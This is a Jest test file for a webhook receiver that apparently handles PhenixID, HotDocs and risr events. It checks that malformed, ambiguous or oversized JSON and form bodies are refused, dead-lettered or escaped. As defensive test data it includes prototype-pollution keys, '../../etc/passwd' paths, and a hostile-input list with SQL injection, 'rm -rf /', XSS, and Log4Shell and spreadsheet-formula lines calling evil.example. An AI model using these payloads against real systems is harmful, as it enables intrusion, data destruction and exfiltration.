import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { DeadLetterReason } from '../../src/kit/errors.ts';
import type { Entry } from '../../src/kit/inbox/inbox.ts';
import { hotdocs } from '../../src/kit/sources/hotdocs/index.ts';
import { phenixid } from '../../src/kit/sources/phenixid/index.ts';
import { risr } from '../../src/kit/sources/risr/index.ts';
import type { RawReply } from '../support/raw.ts';
import {
  deliver,
  expectAccepted,
  expectDiscreetLog,
  expectRefusedAlone,
  genuine,
  proven,
  startTarget,
  type Sender,
  type Target,
  type Wire,
} from './support.ts';

let target: Target;
beforeAll(async () => {
  target = await startTarget({
    env: {
      HOTDOCS_POST_PROCESSING_EVENT_SECRET: undefined,
      HOTDOCS_POST_PROCESSING_EVENT_TOKEN: 'a-legacy-token-of-thirty-two-chars',
    },
  });
});
afterAll(async () => {
  expectDiscreetLog(target);
  await target.receiver.stop();
});

/** A kind of delivery whose content a test writes by hand. */
interface Channel extends Sender {
  /** JSON of a good event, about a subject of its own, with these members in its payload. */
  json(id: string, members: string): string;
  /** What its sender is told, whatever we make of the content. */
  readonly accepted: string;
  /** The proof is a token whose payload must be a JSON object: without one there is no token. */
  readonly isToken: boolean;
  readonly maxBodyBytes: number;
}

function hotdocsJson(type: string) {
  return (id: string, members: string) =>
    `{"eventId":"${id}","eventType":"${type}","data":{"workItemId":"${id}","workItemVersionId":"v"${members}}}`;
}

function hotdocsChannel(type: string, accepted: string, isToken: boolean): Channel {
  const path = `/hotdocs/${type}`;
  const json = hotdocsJson(type);
  return { source: hotdocs, type, path, json, accepted, isToken, maxBodyBytes: 1_048_576 };
}

function risrChannel(type: string, members: (id: string) => string): Channel {
  const json = (id: string, more: string) => `{"webhook_request_id":"${id}",${members(id)}${more}}`;
  return {
    ...{ source: risr, type, path: `/risr/${type}`, json },
    ...{ accepted: '{"ok":true}', isToken: true, maxBodyBytes: 1_048_576 },
  };
}

const notification: Channel = {
  ...{ source: phenixid, type: 'OrderSigned', path: '/phenixid' },
  json: (id, members) => `{"orderId":"${id}","eventType":"OrderSigned","taskId":"${id}"${members}}`,
  ...{ accepted: '{"ok":true}', isToken: false, maxBodyBytes: 16_384 },
};
const completed = hotdocsChannel('NewWorkItemVersionComplete', '', true);
const legacy = hotdocsChannel('PostProcessingEvent', '', false);
const interview = hotdocsChannel('CustomInterviewEvent', '{}', true);
const profile = risrChannel('profile_updated', (id) => `"id":"${id}","rev":"1-a"`);
const login = risrChannel('user_logged_in', (id) => `"user":"${id}"`);

const channels: readonly (readonly [string, Channel])[] = [
  ['a PhenixID notification', notification],
  ['a HotDocs event in a JWT', completed],
  ['a HotDocs event with an access token', legacy],
  ['a HotDocs event somebody waits for', interview],
  ['a risr event', profile],
  ['a risr login', login],
];
const withToken = channels.filter(([, { isToken }]) => isToken);

let count = 0;
function nextId(): string {
  count += 1;
  return `f-${count}`;
}

/** Delivers authentic content that no handler may see: answered as ever, kept byte for byte, replayed after a fix. */
async function expectDeadLetter(
  channel: Channel,
  content: string | Buffer,
  reason: DeadLetterReason,
): Promise<{ reply: RawReply; entry: Entry }> {
  const { app } = target.receiver;
  const { reply, entry } = await deliver(target, await proven(target, channel, content));
  expect([reply.body, entry.status, reasonOf(entry)]).toEqual([channel.accepted, 'dead', reason]);
  if (channel !== legacy) expect(entry.content.equals(Buffer.from(content))).toBe(true);
  expect(await app.inbox.replay(entry.seq)).toMatchObject({ status: 'waiting', attempts: 0 });
  await app.idle();
  const replayed = await app.inbox.find(entry.seq);
  expect([replayed?.status, replayed?.attempts]).toEqual(['dead', 1]);
  return { reply, entry };
}

function reasonOf({ note }: Entry): string | undefined {
  return note?.split(':')[0];
}

async function expectHandled(channel: Channel, members: string): Promise<Entry> {
  const content = channel.json(nextId(), members);
  const { reply, entry } = await deliver(target, await proven(target, channel, content));
  expect([reply.body, entry.status]).toEqual([channel.accepted, 'done']);
  return entry;
}

/** How many levels a member of the payload is inside of. */
function levelsAround(channel: Channel): number {
  return channel.json('', '').includes('"data":') ? 2 : 1;
}

/** Such a nesting, as far as it fits into the sender's body. */
function nested(levels: number, { maxBodyBytes }: Channel): string {
  const fitting = Math.min(levels, Math.floor(maxBodyBytes / 3 - 200));
  return `,"x":${'['.repeat(fitting)}${']'.repeat(fitting)}`;
}

const notJson: readonly (readonly [string, string | Buffer])[] = [
  ['plain text', 'OrderSigned'],
  ['nothing', ''],
  ['blanks', ' \n\t '],
  ['cut off', '{"eventType":"OrderSigned"'],
  ['a trailing comma', '{"eventType":"OrderSigned","taskId":"t",}'],
  ['a comment', '{"eventType":"OrderSigned","taskId":"t"/**/}'],
  ['NaN', '{"eventType":"OrderSigned","taskId":"t","x":NaN}'],
  ['single quotes', "{'eventType':'OrderSigned','taskId':'t'}"],
  ['two documents', '{"eventType":"OrderSigned","taskId":"t"}{}'],
  ['leading zeros', '{"eventType":"OrderSigned","taskId":"t","x":007}'],
  ['hexadecimal', '{"eventType":"OrderSigned","taskId":"t","x":0x10}'],
  ['infinity', '{"eventType":"OrderSigned","taskId":"t","x":Infinity}'],
  ['a string', '"OrderSigned"'],
  ['a number', '1'],
  ['true', 'true'],
  ['null', 'null'],
  ['an array', '[{"eventType":"OrderSigned","taskId":"t"}]'],
  ['XML', '<event><type>OrderSigned</type></event>'],
  ['bytes', Buffer.from([0, 1, 2, 0xfe, 0xff])],
];

describe('F1: what is no JSON object', () => {
  it.each(notJson)('is kept when a PhenixID signature proves it: %s', async (_, content) => {
    await expectDeadLetter(notification, content, 'json_invalid');
  });

  it.each(notJson)('is kept when an access token vouches for it: %s', async (_, content) => {
    const { reply, entry } = await deliver(target, await proven(target, legacy, content));
    expect([reply.body, entry.status]).toEqual(['', 'dead']);
    expect(['json_invalid', 'payload_invalid', 'json_forbidden']).toContain(reasonOf(entry));
  });

  it.each(notJson)('is no token, whatever signed it: %s', async (_, content) => {
    for (const [, channel] of withToken) {
      const request = await proven(target, channel, content);
      await expectRefusedAlone(target, request, 'proof_malformed', 'proof_missing');
    }
  });

  it.each(notJson)('is refused without a proof: %s', async (_, content) => {
    for (const [, { path, source }] of channels) {
      const body = Buffer.from(content);
      const request: Wire = { method: source.methods(undefined)[0] ?? '', target: path, headers: [], body };
      await expectRefusedAlone(target, request, 'proof_missing', 'proof_malformed');
    }
  });
});

const forbidden: readonly (readonly [string, (channel: Channel) => string])[] = [
  ['a member twice', () => ',"x":1,"x":2'],
  ['a member twice, once escaped', () => ',"x":1,"\\u0078":2'],
  ['a member twice, deep inside', () => ',"x":[{"y":{"z":1,"z":1}}]'],
  ['__proto__', () => ',"__proto__":{"polluted":true}'],
  ['__proto__, escaped', () => ',"\\u005f_proto__":{"polluted":true}'],
  ['__proto__, deep inside', () => ',"x":[{"y":{"__proto__":{"polluted":true}}}]'],
  ['constructor.prototype', () => ',"constructor":{"prototype":{"polluted":true}}'],
  ['an integer of 20 digits', () => ',"x":12345678901234567890'],
  ['an integer just beyond the safe ones', () => ',"x":-9007199254740992'],
  ['a number too large', () => ',"x":1e400'],
  ['a number too small', () => ',"x":1e-400'],
  ['a number of many digits', ({ maxBodyBytes }) => `,"x":0.${'1'.repeat(maxBodyBytes / 4)}`],
  ['33 levels', (channel) => nested(33 - levelsAround(channel), channel)],
  ['5,000 levels', (channel) => nested(5_000, channel)],
  ['49,000 levels', (channel) => nested(49_000, channel)],
  ['half a surrogate pair', () => ',"x":"\\ud800"'],
];

describe('F2 to F5: JSON that its readers would not agree on', () => {
  for (const [name, channel] of channels) {
    it.each(forbidden)(`is stored, answered and kept from the handler: ${name} with %s`, async (_, write) => {
      await expectDeadLetter(channel, channel.json(nextId(), write(channel)), 'json_forbidden');
      expect({}).not.toHaveProperty('polluted');
    });
  }

  it('includes names that differ by letter case, where the sender is read so', async () => {
    for (const channel of [completed, legacy, interview]) {
      await expectDeadLetter(channel, channel.json(nextId(), ',"workitemid":"other"'), 'json_forbidden');
    }
  });

  it('and where letter case counts, the other spelling is another member', async () => {
    const entry = await expectHandled(notification, ',"TASKID":"other","EventType":"OrderAccepted"');
    expect([entry.type, entry.subject]).toEqual(['OrderSigned', `phenixid task:f-${count}`]);
    await expectHandled(profile, ',"ID":"other","Rev":"9-z"');
  });
});

const harmless: readonly (readonly [string, (channel: Channel) => string])[] = [
  ["names of Object's own members", () => ',"toString":1,"hasOwnProperty":2,"valueOf":3,"constructor":4'],
  ['a then', () => ',"then":"later"'],
  ['a toJSON', () => ',"toJSON":"never"'],
  ['a zero with a sign', () => ',"x":-0'],
  ['the largest safe integers', () => ',"x":[9007199254740991,-9007199254740991]'],
  ['a long number that is a text', () => ',"x":"12345678901234567890"'],
  ['as many levels as are read', (channel) => nested(32 - levelsAround(channel), channel)],
  ['many members', ({ maxBodyBytes }) => list(maxBodyBytes / 32, (n) => `,"k${n}":${n}`)],
  ['members named by numbers', ({ maxBodyBytes }) => list(maxBodyBytes / 32, (n) => `,"${n * 65_536}":0`)],
  ['many items', ({ maxBodyBytes }) => `,"x":[0${list(maxBodyBytes / 8, () => ',0')}]`],
  ['a long text', ({ maxBodyBytes }) => `,"x":"${'y'.repeat(maxBodyBytes / 2)}"`],
  ['a long name', ({ maxBodyBytes }) => `,"${'k'.repeat(maxBodyBytes / 4)}":1`],
];

function list(length: number, item: (n: number) => string): string {
  return Array.from({ length }, (_, n) => item(n)).join('');
}

describe('F3, F4, F6: odd but unambiguous JSON', () => {
  for (const [name, channel] of channels) {
    it.each(harmless)(`reaches its handler: ${name} with %s`, async (_, write) => {
      await expectHandled(channel, write(channel));
    });
  }

  it.each(channels)('is refused before it is read when it is too large: %s', async (_, channel) => {
    const { type, path, maxBodyBytes } = channel;
    const request = await proven(
      target,
      { ...channel, type, path },
      channel.json(nextId(), `,"x":"${'y'.repeat(maxBodyBytes)}"`),
    );
    await expectRefusedAlone(target, request, 'body_too_large');
  });
});

describe('F7: a payload of another shape', () => {
  it.each([
    ['an object for the id', notification, '{"eventType":"OrderSigned","taskId":{"a":1}}'],
    ['a list for the id', notification, '{"eventType":"OrderSigned","taskId":["t"]}'],
    ['a number for the id', notification, '{"eventType":"OrderSigned","taskId":7}'],
    ['no id', notification, '{"eventType":"OrderSigned"}'],
    ['null for the id', notification, '{"eventType":"OrderSigned","taskId":null,"orderId":null}'],
    ['two ids', notification, '{"eventType":"OrderSigned","taskId":"a","orderId":"b"}'],
    ['a path for the id', notification, '{"eventType":"OrderSigned","taskId":"../../etc/passwd"}'],
    ['dots for the id', notification, '{"eventType":"OrderSigned","taskId":".."}'],
    ['no ids', completed, '{"eventId":"f7-1","eventType":"NewWorkItemVersionComplete","data":{}}'],
    ['a list for data', completed, '{"eventId":"f7-2","data":[]}'],
    ['null for an id', completed, '{"eventId":"f7-3","data":{"workItemId":null,"workItemVersionId":"v"}}'],
    ['text for the user', interview, '{"eventId":"f7-4","data":{"user":"Mia"}}'],
    ['a number for a name', interview, '{"eventId":"f7-5","data":{"eventName":7}}'],
    ['text for a list', completed, completed.json('f7-6', ',"documents":"none"')],
    ['a list of lists', completed, completed.json('f7-7', ',"documents":[[]]')],
    ['no id', profile, '{"webhook_request_id":"f7-8","rev":"1-a"}'],
    ['no revision', profile, '{"webhook_request_id":"f7-9","id":"p"}'],
    ['a bare number for the revision', profile, '{"webhook_request_id":"f7-10","id":"p","rev":7}'],
    ['a path for the id', profile, '{"webhook_request_id":"f7-11","id":"a/../b","rev":"1-a"}'],
    ['an object for a name', profile, profile.json('f7-12', ',"firstName":{"$gt":""}')],
    ['a number for the delivery id', profile, '{"webhook_request_id":7,"id":"p","rev":"1-a"}'],
    ['a very long delivery id', profile, profile.json('i'.repeat(10_000), '')],
    ['no user', login, '{"webhook_request_id":"f7-13"}'],
    ['an object for the user', login, '{"webhook_request_id":"f7-14","user":{"id":"u"}}'],
  ])('is kept for a human: %s', async (_, channel, content) => {
    await expectDeadLetter(channel, content, 'payload_invalid');
  });

  it.each(['0000-00-00', '+275760-09-13', '2016-12-31T23:59:60Z', '2024-05-14T09:30:00', 'yesterday', ''])(
    'is fine where the sender promises no shape: the date %j',
    async (date) => {
      await expectHandled(profile, `,"createdDate":"${date}"`);
      await expectHandled(interview, `,"createdDate":"${date}"`);
    },
  );

  it('is fine with members and enumerated values that nobody has heard of', async () => {
    for (const [, channel] of channels) await expectHandled(channel, ',"invented":{"a":[null,true]}');
    const account = ',"createdBy":{"accountType":"Robot"}';
    await expectHandled(interview, account);
  });
});

describe('F8: an event type', () => {
  it.each([
    ['unknown', '"OrderForgotten"', 'event_unknown'],
    ['in another case', '"ordersigned"', 'event_unknown'],
    ['with a blank', '"OrderSigned "', 'event_unknown'],
    ['that is a path', '"../OrderSigned"', 'event_unknown'],
    ['of Object: constructor', '"constructor"', 'event_unknown'],
    ['of Object: __proto__', '"__proto__"', 'event_unknown'],
    ['of Object: toString', '"toString"', 'event_unknown'],
    ['that is empty', '""', 'payload_invalid'],
    ['that is null', 'null', 'payload_invalid'],
    ['in a list', '["OrderSigned"]', 'payload_invalid'],
    ['in an object', '{"toString":"OrderSigned"}', 'payload_invalid'],
    ['with a line end', '"Order\\nSigned"', 'payload_invalid'],
    ['of 10,000 letters', `"${'O'.repeat(10_000)}"`, 'payload_invalid'],
  ] as const)('of PhenixID %s is kept for a human', async (_, type, reason) => {
    await expectDeadLetter(notification, `{"eventType":${type},"taskId":"t"}`, reason);
  });

  it('of PhenixID that is missing is kept for a human', async () => {
    await expectDeadLetter(notification, '{"taskId":"t"}', 'payload_invalid');
  });

  const foreign = [
    ['unknown', '"WorkItemForgotten"', 'event_unknown'],
    ['in another case', '"newworkitemversioncomplete"', 'event_unknown'],
    ['of another endpoint', '"PostProcessingEvent"', 'event_mismatch'],
    ['of Object', '"constructor"', 'event_unknown'],
    ['that is empty', '""', 'event_unknown'],
    ['in a list', '["NewWorkItemVersionComplete"]', 'event_unknown'],
    ['of half a million letters', `"${'N'.repeat(500_000)}"`, 'event_unknown'],
  ] as const;

  it.each(foreign)(
    'of HotDocs %s is kept for a human, and whoever waits is answered',
    async (_, type, reason) => {
      for (const channel of [completed, interview]) {
        const content = channel.json(nextId(), '').replace(/"eventType":"\w+"/, `"eventType":${type}`);
        await expectDeadLetter(channel, content, reason);
      }
    },
  );

  it('of HotDocs that is missing or null is that of the endpoint', async () => {
    for (const none of ['', '"eventType":null,']) {
      const content = completed.json(nextId(), '').replace(/"eventType":"\w+",/, none);
      const { entry } = await deliver(target, await proven(target, completed, content));
      expect([entry.type, entry.status]).toEqual(['NewWorkItemVersionComplete', 'done']);
    }
  });

  it('that an action link does not have opens a page that says so', async () => {
    const link: Sender = { source: hotdocs, type: 'ActionLink', path: '/hotdocs/ActionLink' };
    const request = await proven(target, link, '{"eventType":"Nonsense","workItemId":"w"}');
    const { reply, entry } = await deliver(target, request);
    expect([entry.status, reasonOf(entry)]).toEqual(['dead', 'event_unknown']);
    expect(reply.headers['content-type']).toBe('text/html; charset=utf-8');
    expect(reply.body).toContain('Please close this window');
  });

  it('of risr is its path, whatever the content says', async () => {
    const entry = await expectHandled(profile, ',"topic":"user_registered","eventType":"constructor"');
    expect(entry.type).toBe('profile_updated');
  });
});

describe('F9: a form', () => {
  const formEvent: Sender = { ...completed, switches: { carrier: 'form' } };
  const plain = 'application/x-www-form-urlencoded';

  it.each([
    ['with more fields than are read', (token: string) => `${'a=b&'.repeat(1_000)}${token}`],
    ['with ever deeper field names', (token: string) => token.replace('=', `${'[a]'.repeat(10_000)}=`)],
    ['with the token in brackets', (token: string) => token.replace('=', '[]=')],
    ['with the field twice', (token: string) => `${token}&token=other`],
    ['with the field twice, escaped', (token: string) => `${token}&%74oken=other`],
    ['with a NUL in its name', (token: string) => token.replace('=', '%00=')],
    ['with semicolons', (token: string) => `a=b;${token}`],
    ['with broken percent signs', (token: string) => token.replace('.', '%ZZ')],
  ])('is refused %s', async (_, change) => {
    const request = await genuine(target, formEvent);
    const body = Buffer.from(change(request.body.toString()));
    await expectRefusedAlone(
      target,
      { ...request, body },
      'proof_missing',
      'proof_malformed',
      'proof_ambiguous',
    );
    await expectAccepted(target, request);
  });

  it.each([
    ['pairs without a sign', (token: string) => `a&b&${token}&c`],
    ['nothing between its signs', (token: string) => `&&&&${token}&&&&`],
    ['escapes', (token: string) => token.replace('.', '%2E').replace('.', '%2e')],
    ['as many fields as are read', (token: string) => `${'a=b&'.repeat(999)}${token}`],
    ['other fields that are odd', (token: string) => `__proto__=1&constructor=2&a[b]=%ZZ&${token}`],
  ])('is a form with %s', async (_, change) => {
    const request = await genuine(target, formEvent);
    await expectAccepted(target, { ...request, body: Buffer.from(change(request.body.toString())) });
  });

  it('of one field that is too large is refused', async () => {
    const body = Buffer.from(`token=${'a'.repeat(10_000_000)}`);
    const request = { ...(await genuine(target, formEvent)), body };
    await expectRefusedAlone(target, request, 'body_too_large');
  });

  const BOUNDARY = 'a-boundary-of-more-than-27-characters';
  const part = (name: string, value: string) =>
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
  const file = (name: string, filename: string, value: string) =>
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"; filename="${filename}"\r\n\r\n${value}\r\n`;

  it.each([
    ['with ten thousand parts', (token: string) => part('a', 'b').repeat(10_000) + part('token', token)],
    ['with the token as a file', (token: string) => file('token', 'token.txt', token)],
    ['with a file name that is a path', (token: string) => file('token', '../../../etc/passwd', token)],
    [
      'in a form',
      (token: string) =>
        part('token', `Content-Type: multipart/mixed; boundary=c\r\n\r\n--c\r\n\r\n${token}\r\n--c--`),
    ],
    ['with the field twice', (token: string) => part('token', token) + part('token', token)],
    ['with a field name of NUL', (token: string) => part('token\0', token)],
    ['without its end', (token: string) => part('token', token).slice(0, -2)],
    [
      'with a part without a name',
      (token: string) => `--${BOUNDARY}\r\nContent-Disposition: form-data\r\n\r\n${token}\r\n`,
    ],
    [
      'with headers without an end',
      (token: string) => `--${BOUNDARY}\r\nContent-Disposition: form-data; name="token"${token.repeat(200)}`,
    ],
  ])('of several parts is refused %s', async (_, write) => {
    const request = await genuine(target, formEvent);
    const token = request.body.toString().replace('token=', '');
    const body = Buffer.from(`${write(token)}--${BOUNDARY}--\r\n`);
    const multipart: Wire = {
      ...request,
      headers: [['Content-Type', `multipart/form-data; boundary=${BOUNDARY}`]],
      body,
    };
    await expectRefusedAlone(target, multipart, 'proof_missing', 'proof_malformed', 'proof_ambiguous');
    await expectAccepted(target, {
      ...multipart,
      body: Buffer.from(`${part('token', token)}--${BOUNDARY}--\r\n`),
    });
  });

  it.each([
    ['with a field twice', 'workItemId=a&workItemId=b&workItemVersionId=v', 'json_forbidden'],
    ['with __proto__', 'workItemId=a&workItemVersionId=v&__proto__=1', 'json_forbidden'],
    ['with too many fields', `workItemId=a&workItemVersionId=v${'&a=b'.repeat(1_000)}`, 'json_invalid'],
    ['without what is needed', 'workItemId=a', 'payload_invalid'],
    [
      'with a document too deep',
      `workItemId=a&workItemVersionId=v&documents=${'['.repeat(40)}${']'.repeat(40)}`,
      'json_forbidden',
    ],
  ] as const)('that an access token vouches for is kept for a human: %s', async (_, body, reason) => {
    const request = await genuine(target, { ...legacy, switches: { tokenBody: 'form' } });
    expect(request.headers).toContainEqual(['Content-Type', plain]);
    const { entry } = await deliver(target, { ...request, body: Buffer.from(body) });
    expect([entry.status, reasonOf(entry)]).toEqual(['dead', reason]);
  });
});

const hostile = [
  "'; DROP TABLE entries; --",
  '{"$gt":""}',
  '$(rm -rf /) `id` | cat',
  '{{7*7}} ${7*7} <%= 7 %> #{7}',
  '=HYPERLINK("http://evil.example";"x")',
  '+1+cmd|calc',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  '${jndi:ldap://evil.example/a}',
  '%0d%0aSet-Cookie: a=b',
  'a\r\nb\u2028c\u001b[31m',
];

describe('F10: text that is code to somebody', () => {
  it.each(hostile)('is kept as text: %j', async (text) => {
    const id = nextId();
    const content = profile.json(id, `,"firstName":${JSON.stringify(text)}`);
    const { entry } = await deliver(target, await proven(target, profile, content));
    expect([entry.status, entry.content.toString()]).toEqual(['done', content]);
    expect(target.receiver.records.find('profile', id)?.['firstName']).toBe(text);
  });

  it.each(hostile)('is escaped on a page: %j', async (text) => {
    const id = nextId();
    const name = `,"workItemName":${JSON.stringify(text)},"documents":[{"id":"d","name":${JSON.stringify(text)},"url":"u"}]`;
    await deliver(target, await proven(target, completed, completed.json(id, name)));
    const link: Sender = { source: hotdocs, type: 'ActionLink', path: '/hotdocs/ActionLink' };
    const { reply } = await deliver(target, await proven(target, link, `{"workItemId":"${id}"}`));
    const shown = text.replace(/[&<>"']/g, (character) => `&#${character.charCodeAt(0)};`);
    expect(Buffer.from(reply.body, 'latin1').toString().split(shown)).toHaveLength(4);
    expect(reply.body).not.toContain('<script>');
    expect(reply.headers['content-security-policy']).toContain("default-src 'none'");
  });
});

it('the receiver takes genuine deliveries of every kind after all that', async () => {
  for (const [, channel] of channels) await expectHandled(channel, '');
});
